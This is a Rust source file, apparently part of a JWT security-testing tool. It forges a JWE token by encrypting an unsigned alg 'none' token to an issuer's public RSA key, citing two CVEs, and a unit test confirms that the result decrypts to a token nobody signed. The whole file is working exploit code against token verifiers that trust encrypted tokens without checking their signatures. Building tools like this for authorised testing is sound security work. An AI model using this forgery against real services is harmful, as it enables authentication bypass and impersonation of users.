//! A JWE to the issuer's own RSA key: anyone can make one, and what stands in it proves nothing (CVE-2026-29000, CVE-2023-51774).

use ring::aead::{AES_128_GCM, Aad, LessSafeKey, Nonce, UnboundKey};
use serde_json::json;
use sha2::Sha256;

use crate::error::BuildError;
use crate::keys::encode;
use crate::token::Signing;

/// RSA-OAEP-256 and A128GCM around a token whose algorithm is `none`.
pub(crate) fn encrypted(signing: &mut Signing<'_>) -> Result<String, BuildError> {
    let failed = || BuildError::Forgery {
        forgery: "jwe",
        problem: "it could not be encrypted",
    };
    let inner = format!(
        "{}.{}.",
        encode(br#"{"alg":"none"}"#),
        encode(signing.payload.as_bytes())
    );
    let header = json!({
        "alg": "RSA-OAEP-256", "enc": "A128GCM", "typ": "at+jwt", "cty": "JWT", "kid": signing.key.key_id(),
    });
    let header = encode(header.to_string().as_bytes());
    let content_key: [u8; 16] = signing.random.bytes();
    let nonce: [u8; 12] = signing.random.bytes();
    let public = signing.key.rsa()?.to_public_key();
    let wrapped = public
        .encrypt(
            &mut signing.random,
            rsa::Oaep::<Sha256>::new(),
            &content_key,
        )
        .map_err(|_| failed())?;
    let sealing = UnboundKey::new(&AES_128_GCM, &content_key).map_err(|_| failed())?;
    let mut ciphertext = inner.into_bytes();
    let tag = LessSafeKey::new(sealing)
        .seal_in_place_separate_tag(
            Nonce::assume_unique_for_key(nonce),
            Aad::from(header.as_bytes()),
            &mut ciphertext,
        )
        .map_err(|_| failed())?;
    Ok([
        header,
        encode(&wrapped),
        encode(&nonce),
        encode(&ciphertext),
        encode(tag.as_ref()),
    ]
    .join("."))
}

#[cfg(test)]
mod tests {
    use super::*;
    use base64ct::{Base64UrlUnpadded, Encoding as _};
    use sluis_token::Algorithm;

    use crate::keys::Attacker;
    use crate::template::Scope;

    /// Who decrypts it finds a token that nobody signed.
    #[test]
    fn it_decrypts_to_an_unsecured_token() {
        let attacker = Attacker::new(b"seed");
        let key = attacker.key(Algorithm::Rs256).unwrap();
        let mut signing = Signing {
            key,
            signer: key,
            set: json!({}),
            attacker: &attacker,
            scope: &Scope::default(),
            random: attacker.random("x"),
            input: String::new(),
            payload: r#"{"sub":"x"}"#.to_owned(),
        };
        let token = encrypted(&mut signing).unwrap();
        let parts: Vec<&str> = token.split('.').collect();
        let part = |at: usize| Base64UrlUnpadded::decode_vec(parts[at]).unwrap();
        let private = key.rsa().unwrap();
        let content_key = private
            .decrypt(rsa::Oaep::<Sha256>::new(), &part(1))
            .unwrap();
        let opening = LessSafeKey::new(UnboundKey::new(&AES_128_GCM, &content_key).unwrap());
        let nonce = Nonce::try_assume_unique_for_key(&part(2)).unwrap();
        let mut sealed = [part(3), part(4)].concat();
        let aad = Aad::from(parts[0].as_bytes());
        let inner = opening.open_in_place(nonce, aad, &mut sealed).unwrap();
        let inner = String::from_utf8(inner.to_vec()).unwrap();
        assert_eq!(inner, "eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.");
    }
}
